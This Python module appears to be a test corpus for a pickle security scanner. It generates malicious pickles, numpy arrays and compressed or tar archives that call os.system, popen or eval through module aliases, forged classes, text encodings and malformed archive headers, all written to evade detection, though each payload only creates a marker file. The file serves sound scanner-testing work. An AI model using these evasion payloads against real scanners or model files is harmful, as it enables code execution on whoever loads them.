"""Files that run code and were written to get past a scan: by aliases, by encodings, by archives.

They complete `scan_corpus`. `PICKLES` make the marker when ``pickle.load`` reads them; `FILES` when the reader that is
named with each loads them.
"""

from __future__ import annotations

import bz2
import codecs
import gzip
import io
import lzma
import tarfile
from pathlib import Path

from .handmade import call, dict_of, list_of, named, number, program, raw_bytes, text, tuple_of
from .scan_corpus import Payload, _legacy, exploit, system
from .test_pickles_malicious import touch


def _without_protocol(m: Path) -> bytes:
    """Return a pickle that begins with no sign of one."""
    return b"N0" + system(m) + b"."


def _attribute(name: str, of: bytes) -> bytes:
    """Return the body that reads an attribute, with attrgetter by the name under which pathlib imports it."""
    return call(call(named("pathlib", "attrgetter"), text(name)), of)


_OS = named("pathlib", "os")
_LOAD = named("torch.storage", "_load_from_bytes")


def _class_parts() -> list[bytes]:
    """Return the arguments of a metaclass: a subclass of Path of which dataclasses.asdict reads a method."""
    state = tuple_of(b"N", dict_of(text("name"), text("touch"), text("_field_type"), named("dataclasses", "_FIELD")))
    no = b"\x89"
    field = call(named("dataclasses", "Field"), b"N", b"N", no, no, no, no, b"N", no) + state + b"b"
    members = dict_of(text("__dataclass_fields__"), dict_of(text("touch"), field))
    return [text("X"), tuple_of(named("pathlib", "PosixPath")), members]


def _touched(m: Path, cls: bytes) -> bytes:
    """Return the body that calls the method of the class."""
    methods = call(named("dataclasses", "asdict"), call(cls, text(str(m))))
    return call(call(named("operator", "getitem"), methods, text("touch")))


def _encoded(value: str | bytes, encoding: str) -> bytes:
    body = text(value) if isinstance(value, str) else value
    return call(named("_codecs", "encode"), body, text(encoding))


def _utf16(data: bytes) -> str:
    return (data + b"." * (len(data) % 2)).decode("utf-16-le", "surrogatepass")


def _partial_type() -> bytes:
    made = call(named("functools", "partial"), named("builtins", "list"))
    return made + tuple_of(named("builtins", "type"), tuple_of(), dict_of(), b"N") + b"b"


# name -> the body of a pickle
BODIES: dict[str, Payload] = {
    "attrgetter by its alias": lambda m: call(_attribute("system", _OS), touch(m)),
    "a dotted attribute": lambda m: call(_attribute("path.os.mkdir", _OS), text(str(m))),
    "sys.modules by its alias": lambda m: call(
        _attribute(
            "system",
            call(named("operator", "getitem"), _attribute("modules", named("enum", "sys")), text("os")),
        ),
        touch(m),
    ),
    "itemgetter of sys.modules": lambda m: call(
        _attribute(
            "mkdir",
            call(call(named("operator", "itemgetter"), text("posix")), _attribute("modules", named("calendar", "sys"))),
        ),
        text(str(m)),
    ),
    "the globals of a function": lambda m: call(
        _attribute(
            "eval",
            call(
                named("operator", "getitem"),
                _attribute("__globals__", named("dataclasses", "field")),
                text("builtins"),
            ),
        ),
        text(f"open({str(m)!r}, 'w')"),
    ),
    "reduce by its alias": lambda m: call(
        named("enum", "reduce"), _attribute("popen", _OS), list_of(text("r")), touch(m)
    ),
    "iter with a sentinel": lambda m: call(
        named("builtins", "next"),
        call(
            named("builtins", "iter"),
            call(named("functools", "partial"), _attribute("system", _OS), touch(m)),
            text(""),
        ),
    ),
    "a default factory": lambda m: call(
        named("operator", "getitem"),
        call(
            named("collections", "defaultdict"),
            call(named("functools", "partial"), _attribute("mkdir", _OS), text(str(m))),
        ),
        number(1),
    ),
    "a key function": lambda m: (
        call(named("functools", "partial"), named("builtins", "sorted"))
        + tuple_of(
            named("builtins", "sorted"),
            tuple_of(list_of(touch(m))),
            dict_of(text("key"), _attribute("system", _OS)),
            b"N",
        )
        + b"b)R"
    ),
    "a loader of modules": lambda m: (
        call(_attribute("load_module", named("builtins", "__loader__")), text("posix"))
        + b"0"
        + call(_attribute("system", _OS), touch(m))
    ),
    "a function by its type": lambda m: (
        named("_collections_abc", "FunctionType") + b"0" + call(_attribute("mkdir", _OS), text(str(m)))
    ),
    "a class by ABCMeta": lambda m: _touched(m, call(named("typing", "ABCMeta"), *_class_parts())),
    "a class by another ABCMeta": lambda m: _touched(m, call(named("numbers", "ABCMeta"), *_class_parts())),
    "a class by type": lambda m: _touched(m, call(named("builtins", "type"), *_class_parts())),
    "a class by partial(type)": lambda m: _touched(
        m, call(call(named("functools", "partial"), named("builtins", "type")), *_class_parts())
    ),
    "a class by the state of a partial": lambda m: _touched(m, call(_partial_type(), *_class_parts())),
    "a class by copyreg": lambda m: _touched(
        m, call(named("copyreg", "__newobj__"), named("builtins", "type"), *_class_parts())
    ),
    "a class of torch": lambda m: _touched(
        m, call(named("torch.ao.quantization.observer", "ABCMeta"), *_class_parts())
    ),
    "bytes without a protocol": lambda m: call(_LOAD, raw_bytes(_without_protocol(m))),
    "bytes by way of the memo": lambda m: raw_bytes(_without_protocol(m)) + b"q\x010" + call(_LOAD, b"h\x01"),
    "a text without a protocol": lambda m: call(_LOAD, _encoded(_without_protocol(m).decode("latin1"), "latin1")),
    "a long text without a protocol": lambda m: call(
        _LOAD, _encoded((b"N0" * 3000 + _without_protocol(m)).decode("latin1"), "latin1")
    ),
    "a text in rot13": lambda m: call(
        _LOAD, _encoded(_encoded(codecs.encode(_without_protocol(m).decode("latin1"), "rot_13"), "rot_13"), "latin1")
    ),
    "a text in UTF-16": lambda m: call(_LOAD, _encoded(_utf16(_without_protocol(m)), "utf-16-le")),
    "a text in escapes": lambda m: call(_LOAD, _encoded(_without_protocol(m).decode("latin1"), "raw_unicode_escape")),
    "bytes of bytes": lambda m: call(_LOAD, call(named("builtins", "bytes"), raw_bytes(_without_protocol(m)))),
    "bytes of a bytearray": lambda m: call(
        _LOAD,
        call(named("builtins", "bytearray"), text(_without_protocol(m).decode("latin1")), text("latin1")),
    ),
    "a legacy file in bytes": lambda m: call(_LOAD, raw_bytes(_legacy(_without_protocol(m)))),
    "bytes in bytes": lambda m: call(_LOAD, raw_bytes(b"N0" + call(_LOAD, raw_bytes(_without_protocol(m))) + b".")),
}

PICKLES: dict[str, Payload] = {
    name: (lambda m, body=body: program(body(m)))
    for name, body in BODIES.items()  # type: ignore[misc]
}
PICKLES["as a cabinet"] = lambda m: b"MSCF1\n00" + system(m) + b"."


def _npy(m: Path, descr: str) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,)}}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\0" + len(header).to_bytes(2, "little") + header + exploit(m)


def _tar_with_size(m: Path) -> bytes:
    """Return a tar whose header says that its member is empty, and whose extended header says otherwise."""
    data = exploit(m)
    info = tarfile.TarInfo("model.bin")
    info.pax_headers = {"size": str(len(data))}
    out = info.tobuf(tarfile.PAX_FORMAT)
    return out + data.ljust(-(-len(data) // 512) * 512, b"\0") + bytes(1024)


def _tar_with_signs(m: Path) -> bytes:
    """Return a tar whose checksum adds signed bytes, as some old programs wrote it."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT, encoding="latin1") as archive:
        info = tarfile.TarInfo("\xe4\xe4")
        data = exploit(m)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    block = bytearray(out.getvalue())
    signed = 256 + sum(b - 256 if b > 127 else b for b in block[:148] + block[156:512])
    block[148:156] = b"%06o\0 " % signed
    return bytes(block)


# name -> (name of the file, its bytes, the program that loads the file ``path``)
_PICKLED = "import pickle, {0}; pickle.load({0}.open(path))"
_ARRAY = "import numpy; numpy.load(path, allow_pickle=True)"
_TAR = "import pickle, tarfile; t = tarfile.open(path); pickle.load(t.extractfile(t.next()))"
FILES: dict[str, tuple[str, Payload, str]] = {
    "second stream of gzip": (
        "m.pkl.gz", lambda m: gzip.compress(b"") + gzip.compress(exploit(m)), _PICKLED.format("gzip"),
    ),
    "second stream of bzip2": (
        "m.pkl.bz2", lambda m: bz2.compress(b"") + bz2.compress(exploit(m)), _PICKLED.format("bz2"),
    ),
    "second stream of xz": (
        "m.pkl.xz", lambda m: lzma.compress(b"") + lzma.compress(exploit(m)), _PICKLED.format("lzma"),
    ),
    "a pickle in two streams": (
        "m.pkl.gz", lambda m: gzip.compress(exploit(m)[:9]) + gzip.compress(exploit(m)[9:]), _PICKLED.format("gzip"),
    ),
    "objects by their long name": ("a.npy", lambda m: _npy(m, "'object'"), _ARRAY),
    "objects in escapes": ("a.npy", lambda m: _npy(m, r"'\x4f'"), _ARRAY),
    "objects in pieces": ("a.npy", lambda m: _npy(m, "'ob' 'ject'"), _ARRAY),
    "objects in a record": ("a.npy", lambda m: _npy(m, "[('a', '<f4'), ('b', 'object')]"), _ARRAY),
    "a tar with an extended size": ("m.tar", _tar_with_size, _TAR),
    "a tar with signed bytes": ("m.tar", _tar_with_signs, _TAR),
}  # fmt: skip
